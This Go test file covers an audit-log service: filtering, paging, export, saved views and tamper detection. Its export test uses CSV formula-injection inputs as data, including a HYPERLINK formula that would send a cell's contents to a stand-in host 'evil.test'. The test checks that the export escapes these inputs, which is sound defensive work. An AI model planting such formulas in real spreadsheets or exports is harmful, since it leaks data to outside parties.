package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/toolwarden/toolwarden/services/audit"
	"github.com/toolwarden/toolwarden/services/db/dbtest"
	"github.com/toolwarden/toolwarden/services/fault"
	"github.com/toolwarden/toolwarden/services/verr"
)

const aliceID = "00000000-0000-0000-0000-00000000000a"

// seedBrowse writes a small log of varied entries and returns them in append order.
func seedBrowse(t *testing.T, pool *pgxpool.Pool) {
	t.Helper()
	alice := audit.Actor{Kind: audit.ActorUser, ID: aliceID, Name: "alice", IP: "10.0.0.1", RequestID: "req-1"}
	bob := audit.Actor{Kind: audit.ActorToken, Name: "bob", IP: "10.0.0.2", RequestID: "req-2"}
	entries := []audit.Entry{
		{Actor: alice, Action: "user.login", TargetType: "user", TargetID: aliceID, TargetName: "alice"},
		{Actor: alice, Action: "server.create", TargetType: "server", TargetID: "s1", TargetName: "everything", Payload: map[string]any{"type": "stdio"}},
		{Actor: alice, Action: "tool.enable", TargetType: "tool", TargetID: "t1", TargetName: "everything__echo"},
		{Actor: bob, Action: "tool.call", TargetType: "tool", TargetID: "t1", TargetName: "everything__echo", Payload: map[string]any{"arguments": map[string]string{"message": "Frobnicate 50%_off"}}},
		{Actor: bob, Action: "request.denied", TargetType: "route", TargetID: "POST /api/v1/servers", Result: audit.ResultDenied, Payload: map[string]any{"status": 403}},
		{Actor: audit.Actor{Kind: audit.ActorAnonymous, Name: "", IP: "10.0.0.3"}, Action: "user.login_failed", TargetType: "user", TargetName: "mallory", Result: audit.ResultFailure},
		{Actor: alice, Action: "execution.approve", TargetType: "execution", TargetID: "e1", TargetName: "plan one"},
		{Actor: alice, Action: "execution.success", TargetType: "execution", TargetID: "e1"},
	}
	for i, e := range entries {
		if err := appendOne(pool, e); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
}

func ids(p audit.Page) []int64 {
	out := make([]int64, len(p.Items))
	for i, r := range p.Items {
		out[i] = r.ID
	}
	return out
}

func TestBrowseFilters(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	seedBrowse(t, pool)
	l := audit.NewLog(pool)
	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	for _, tc := range []struct {
		query string
		want  []int64
	}{
		{"", []int64{8, 7, 6, 5, 4, 3, 2, 1}},
		{"actor=alice", []int64{8, 7, 3, 2, 1}},
		{"action=auth", []int64{6, 5, 1}},
		{"action=tools", []int64{3}},
		{"action=calls", []int64{4}},
		{"action=approvals", []int64{7}},
		{"action=executions", []int64{8}},
		{"action=servers", []int64{2}},
		{"action=tool.call", []int64{4}},
		{"target_type=tool", []int64{4, 3}},
		{"target_type=execution&target_id=e1", []int64{8, 7}},
		{"result=denied", []int64{5}},
		{"result=failure", []int64{6}},
		{"result=success&actor=bob", []int64{4}},
		{"request_id=req-2", []int64{5, 4}},
		{"q=frobnicate", []int64{4}}, // payload, any case
		{"q=50%25_off", []int64{4}},  // % and _ match themselves
		{"q=mallory", []int64{6}},    // target name
		{"q=everything__echo", []int64{4, 3}},
		{"q=zzz-nothing", nil},
		{"q=frobn", nil},             // whole words, not parts of them
		{"q=%25%25+__", nil},         // no words at all
		{"q=it's+a%5C%22quote", nil}, // quotes and backslashes are text
		{"q=Everything-Echo", nil},   // a hyphenated word is that word
		{"q=everything", []int64{4, 3, 2}},
		{"q=FROBNICATE+off", []int64{4}}, // every word
		{"to=2000-01-01", nil},
		{"from=2000-01-01&to=" + url.QueryEscape(future), []int64{8, 7, 6, 5, 4, 3, 2, 1}},
		{"from=" + url.QueryEscape(future), nil},
		{"actor=alice&action=executions&result=success", []int64{8}},
	} {
		v, _ := url.ParseQuery(tc.query)
		f, err := audit.ParseFilter(v)
		if err != nil {
			t.Fatalf("%q: %v", tc.query, err)
		}
		p, err := l.List(ctx, f)
		if err != nil {
			t.Fatalf("%q: %v", tc.query, err)
		}
		if got := ids(p); fmt.Sprint(got) != fmt.Sprint(tc.want) && !(len(got) == 0 && len(tc.want) == 0) {
			t.Errorf("%q: got ids %v, want %v", tc.query, got, tc.want)
		}
	}
}

func TestBrowseKeysetPages(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	appendN(t, pool, 23)
	l := audit.NewLog(pool)
	var got []int64
	f := audit.Filter{Limit: 10}
	pages := 0
	for {
		p, err := l.List(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		pages++
		got = append(got, ids(p)...)
		if p.NextCursor == 0 {
			break
		}
		f.Cursor = p.NextCursor
	}
	if pages != 3 || len(got) != 23 || got[0] != 23 || got[22] != 1 {
		t.Fatalf("got %d pages and ids %v, want 3 pages of 23..1", pages, got)
	}
	// Entries appended after a page was read do not shift the next page.
	f = audit.Filter{Limit: 10}
	p1, _ := l.List(ctx, f)
	appendN(t, pool, 2)
	f.Cursor = p1.NextCursor
	p2, _ := l.List(ctx, f)
	if p2.Items[0].ID != 13 {
		t.Fatalf("second page after appends starts at %d, want 13", p2.Items[0].ID)
	}
	// A time range pages by time, with the same cursors.
	f = audit.Filter{From: time.Now().Add(-time.Hour), Limit: 4}
	var timed []int64
	for {
		p, err := l.List(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range p.Items {
			if i > 0 && r.At.After(p.Items[i-1].At) {
				t.Fatalf("timed page out of order: %v", ids(p))
			}
		}
		timed = append(timed, ids(p)...)
		if p.NextCursor == 0 {
			break
		}
		f.Cursor = p.NextCursor
	}
	if len(timed) != 25 || timed[0] != 25 || timed[24] != 1 {
		t.Fatalf("timed pages: got %v, want 25..1", timed)
	}
	n, err := l.CountNewer(ctx, audit.Filter{}, p1.Items[0].ID)
	if err != nil || n != 2 {
		t.Fatalf("count newer: got %d, %v; want 2", n, err)
	}
	n, err = l.CountNewer(ctx, audit.Filter{Actor: "nobody"}, p1.Items[0].ID)
	if err != nil || n != 0 {
		t.Fatalf("count newer with a filter: got %d, %v; want 0", n, err)
	}
}

func TestParseFilterNamesBadFields(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ query, field string }{
		{"result=maybe", "result"},
		{"action=Not%20An%20Action", "action"},
		{"from=yesterday", "from"},
		{"to=31/01/2026", "to"},
		{"from=2026-02-01&to=2026-01-01", "to"},
		{"limit=0", "limit"},
		{"limit=100000", "limit"},
		{"cursor=abc", "cursor"},
		{"cursor=-4", "cursor"},
		{"q=" + strings.Repeat("x", 201), "q"},
	} {
		v, _ := url.ParseQuery(tc.query)
		_, err := audit.ParseFilter(v)
		var ve *verr.Error
		if !errors.As(err, &ve) || ve.For(tc.field) == "" {
			t.Errorf("%q: got %v, want an error naming %s", tc.query, err, tc.field)
		}
	}
	v, _ := url.ParseQuery("actor=alice&action=auth&from=2026-01-31T08:00&to=2026-02-01T00:00:00Z&cursor=9&limit=20")
	f, err := audit.ParseFilter(v)
	if err != nil {
		t.Fatal(err)
	}
	if f.Cursor != 9 || f.Limit != 20 || f.From != time.Date(2026, 1, 31, 8, 0, 0, 0, time.UTC) {
		t.Fatalf("got %+v", f)
	}
	if got := f.Query().Encode(); got != "action=auth&actor=alice&from=2026-01-31T08%3A00%3A00Z&to=2026-02-01T00%3A00%3A00Z" {
		t.Fatalf("query: got %s", got)
	}
	// As a person types a time (and the list shows one): a space for the T, "UTC" after.
	for _, typed := range []string{"2026-01-31 08:00", " 2026-01-31 08:00:00 UTC", "2026-01-31 08:00 UTC", "2026-01-31T08:00UTC"} {
		f, err := audit.ParseFilter(url.Values{"from": {typed}})
		if err != nil || f.From != time.Date(2026, 1, 31, 8, 0, 0, 0, time.UTC) {
			t.Errorf("from=%q: got %v, %v", typed, f.From, err)
		}
	}
}

// TestActionGroupMatchesSQL keeps audit.ActionGroup and migration 27's
// audit_action_group the same mapping.
func TestActionGroupMatchesSQL(t *testing.T) {
	t.Parallel()
	pool := dbtest.New(t)
	actions := []string{"user.login", "user.login_failed", "user.logout", "request.denied", "token.create", "token.revoke",
		"session.started", "user.create", "user.role_change", "user.password_reset", "user.disable", "server.create",
		"server.import.create", "server.test", "tool.call", "tool.call.refused", "tool.call.failed", "resource.read", "prompt.get", "terminal.input",
		"memory.store", "todo.add", "tool.enable", "tool.validate", "tool.testcase.save", "category.create", "execution.approve",
		"execution.approve.refused", "execution.reject", "grant.create", "collaboration.request", "execution.create",
		"execution.success", "execution.rollback", "secret.rotate", "secrets.rotate", "settings.executions", "audit.export",
		"audit.saved_view.create", "widget", "user", "tokens.x", "toolx.y", "other.thing"}
	for _, a := range actions {
		var sql string
		if err := pool.QueryRow(context.Background(), `SELECT audit_action_group($1)`, a).Scan(&sql); err != nil {
			t.Fatal(err)
		}
		if got := audit.ActionGroup(a); got != sql {
			t.Errorf("%s: Go says %s, SQL says %s", a, got, sql)
		}
	}
}

func TestGetEntry(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	seedBrowse(t, pool)
	l := audit.NewLog(pool)
	r, err := l.Get(ctx, 2)
	if err != nil || r.Action != "server.create" || len(r.Hash) != 32 || len(r.PrevHash) != 32 {
		t.Fatalf("got %+v, %v", r, err)
	}
	if _, err := l.Get(ctx, 999); !fault.Is(err, fault.KindNotFound) {
		t.Fatalf("missing entry: got %v, want not found", err)
	}
}

func TestExportStreamsAndIsAudited(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	appendN(t, pool, 2500) // more than one batch
	l := audit.NewLog(pool)
	auditor := audit.Actor{Kind: audit.ActorUser, ID: aliceID, Name: "carol", IP: "10.0.0.9"}
	var buf bytes.Buffer
	if err := l.Export(ctx, auditor, audit.Filter{Actor: "alice"}, audit.FormatJSONL, &buf); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2500 {
		t.Fatalf("jsonl: got %d lines, want 2500", len(lines))
	}
	var first audit.ExportEntry
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.ID != 2500 || len(first.Hash) != 64 || first.Group != "other" {
		t.Fatalf("first line: %+v, %v", first, err)
	}
	// The export was audited before it was written, and its end after: the entries say
	// who and what.
	recent, _ := audit.Recent(ctx, pool, 2)
	if len(recent) != 2 || recent[0].Action != "audit.export.finished" || recent[1].Action != "audit.export" ||
		recent[1].ActorName != "carol" || !strings.Contains(string(recent[1].Payload), `actor=alice`) {
		t.Fatalf("export entries: got %+v", recent)
	}
	buf.Reset()
	if err := l.Export(ctx, auditor, audit.Filter{Action: "audit"}, audit.FormatCSV, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// Header, then this export's start (recorded before it ran), the first one's end
	// and start.
	if len(recs) != 4 || recs[0][0] != "id" || recs[1][5] != "audit.export" || recs[1][6] != "audit" {
		t.Fatalf("csv: got %v", recs)
	}
	if err := l.Export(ctx, auditor, audit.Filter{}, "xml", &buf); err == nil {
		t.Fatal("export as xml: got no error")
	}

	// A name typed at the sign-in form is text in a spreadsheet, not a formula; JSON
	// Lines keeps it exact.
	formula := `=HYPERLINK("http://evil.test/?"&A2,"open")`
	if err := audit.AppendAlone(ctx, pool, audit.Entry{Actor: audit.Actor{Kind: audit.ActorAnonymous, Name: formula}, Action: "user.login_failed",
		TargetType: "user", TargetName: "@SUM(1+1)", TargetID: "'=1+1", Result: audit.ResultFailure}); err != nil {
		t.Fatal(err)
	}
	buf.Reset()
	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed"}, audit.FormatCSV, &buf); err != nil {
		t.Fatal(err)
	}
	if recs, err := csv.NewReader(&buf).ReadAll(); err != nil || len(recs) != 2 || recs[1][4] != "'"+formula || recs[1][9] != "'@SUM(1+1)" || recs[1][8] != "''=1+1" {
		t.Fatalf("csv of a formula: %q, %v", recs, err)
	}
	buf.Reset()
	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed"}, audit.FormatJSONL, &buf); err != nil {
		t.Fatal(err)
	}
	var e audit.ExportEntry
	if err := json.Unmarshal(buf.Bytes(), &e); err != nil || e.ActorName != formula {
		t.Fatalf("jsonl of a formula: %+v, %v", e, err)
	}

	// A spreadsheet set to a language whose lists use ';' opens the file split at each
	// ';' (quotes in mid-field are plain characters there): what follows one is the
	// start of a cell too.
	semi := "a;=1+1; @SUM(2);'x"
	if err := audit.AppendAlone(ctx, pool, audit.Entry{Actor: audit.Actor{Kind: audit.ActorAnonymous, Name: semi}, Action: "user.login_failed",
		TargetType: "user", TargetName: "-2;b", Result: audit.ResultFailure}); err != nil {
		t.Fatal(err)
	}
	buf.Reset()
	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed", Actor: semi}, audit.FormatCSV, &buf); err != nil {
		t.Fatal(err)
	}
	if recs, err := csv.NewReader(&buf).ReadAll(); err != nil || len(recs) != 2 || recs[1][4] != "a;'=1+1;' @SUM(2);''x" || recs[1][9] != "'-2;b" {
		t.Fatalf("csv of formulas after ';': %q, %v", recs, err)
	}
}

func TestSavedViews(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	var uid string
	if err := pool.QueryRow(ctx, `INSERT INTO users (username, role, password_hash) VALUES ('carol', 'auditor', 'x') RETURNING id::text`).Scan(&uid); err != nil {
		t.Fatal(err)
	}
	l := audit.NewLog(pool)
	carol := audit.Actor{Kind: audit.ActorUser, ID: uid, Name: "carol"}
	v, err := l.SaveView(ctx, carol, "Refused", "?result=denied&cursor=40")
	if err != nil {
		t.Fatal(err)
	}
	if v.Query != "result=denied" {
		t.Fatalf("saved query: got %q, want the filter without its cursor", v.Query)
	}
	if _, err := l.SaveView(ctx, carol, "Refused", "result=failure"); !fault.Is(err, fault.KindConflict) {
		t.Fatalf("same name again: got %v, want a conflict", err)
	}
	var ve *verr.Error
	if _, err := l.SaveView(ctx, carol, "", "result=nope"); !errors.As(err, &ve) || ve.For("name") == "" || ve.For("query") == "" {
		t.Fatalf("bad view: got %v, want errors naming name and query", err)
	}
	vs, err := l.Views(ctx, uid)
	if err != nil || len(vs) != 1 || vs[0].Name != "Refused" {
		t.Fatalf("views: got %+v, %v", vs, err)
	}
	other := audit.Actor{Kind: audit.ActorUser, ID: aliceID, Name: "alice"}
	if err := l.DeleteView(ctx, other, v.ID); !errors.Is(err, audit.ErrViewNotFound) {
		t.Fatalf("someone else's view: got %v, want not found", err)
	}
	if err := l.DeleteView(ctx, carol, "not-a-uuid"); !errors.Is(err, audit.ErrViewNotFound) {
		t.Fatalf("bad id: got %v, want not found", err)
	}
	if err := l.DeleteView(ctx, carol, v.ID); err != nil {
		t.Fatal(err)
	}
	recs, _ := audit.Recent(ctx, pool, 2)
	if recs[0].Action != "audit.saved_view.delete" || recs[1].Action != "audit.saved_view.create" || recs[1].TargetName != "Refused" {
		t.Fatalf("audited: got %s, %s", recs[0].Action, recs[1].Action)
	}
}

func TestVerifyRuns(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool := dbtest.New(t)
	l := audit.NewLog(pool)
	if st, err := l.VerifyStatus(ctx); err != nil || st != nil {
		t.Fatalf("never checked: got %+v, %v", st, err)
	}
	appendN(t, pool, 30)
	var calls [][2]int64
	res, _, err := l.Verify(ctx, func(c, n int64) { calls = append(calls, [2]int64{c, n}) })
	if err != nil || !res.OK() || len(calls) == 0 || calls[len(calls)-1] != [2]int64{30, 30} {
		t.Fatalf("verify: %+v %v, progress %v", res, err, calls)
	}
	l.StartVerify("carol")
	l.WaitVerify()
	st, err := l.VerifyStatus(ctx)
	if err != nil || st == nil || !st.OK || st.VerifiedThrough != 30 || st.StartedBy != "carol" || st.Running {
		t.Fatalf("status after a background check: got %+v, %v", st, err)
	}
	// Break the chain (as the table's owner, bypassing the triggers): the check says
	// where, and how far it verified.
	if _, err := pool.Exec(ctx, `ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update;
		UPDATE audit_log SET actor_name = 'eve' WHERE id = 12;
		ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update`); err != nil {
		t.Fatal(err)
	}
	v, err := l.VerifyNow(ctx, "api")
	if err != nil || v.OK || v.BadID != 12 || v.VerifiedThrough != 11 {
		t.Fatalf("tampered: got %+v, %v", v, err)
	}
}
